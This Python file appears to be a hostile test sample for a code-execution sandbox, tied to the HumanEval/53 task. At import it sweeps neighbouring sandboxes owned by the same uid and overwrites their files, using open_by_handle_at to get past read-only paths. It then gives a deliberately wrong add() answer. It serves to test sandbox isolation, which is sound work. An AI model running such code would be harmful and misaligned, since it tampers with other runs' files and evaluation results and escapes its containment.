"""Class 10: a sample running as the same uid as a sample of another fork server finds that
sample's working directory (its own uid owns it) and overwrites its files, through
open_by_handle_at where the path is read-only.

task: HumanEval/53
"""
import ctypes
import os
import time

_libc = ctypes.CDLL(None, use_errno=True)


class _Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def host_open(path, flags):
    handle = _Handle()
    handle.handle_bytes = 128
    mount_id = ctypes.c_int()
    if _libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        fd = _libc.open_by_handle_at(here, ctypes.byref(handle), flags)
    finally:
        os.close(here)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return fd


def _overwrite(path):
    for opener in (lambda: os.open(path, os.O_WRONLY | os.O_TRUNC),
                   lambda: host_open(path, os.O_WRONLY | os.O_TRUNC)):
        try:
            fd = opener()
        except OSError:
            continue
        os.write(fd, b"3")
        os.close(fd)
        return True
    return False


_me, _own = os.getuid(), os.getcwd()
_hits = set()


def _sweep(root, depth):
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.count("/") - root.count("/") >= depth:
            dirnames[:] = []
        if dirpath == _own or dirpath.startswith(_own + "/"):
            continue
        try:
            if os.stat(dirpath).st_uid != _me:
                continue
        except OSError:
            continue
        for name in filenames:
            if _overwrite(os.path.join(dirpath, name)):
                _hits.add(os.path.join(dirpath, name))


# where this sandbox lives: other sandboxes of the same run are its neighbours (the test keeps
# the attack there, away from other users' sandboxes on the machine)
_near = os.path.dirname(os.path.dirname(_own))
_end = time.monotonic() + 4.0
while time.monotonic() < _end:
    _sweep(_near, 3)
    time.sleep(0.1)
print("overwrote", sorted(_hits))


def add(x: int, y: int):
    """Add two numbers x and y
    """
    return x - y  # wrong
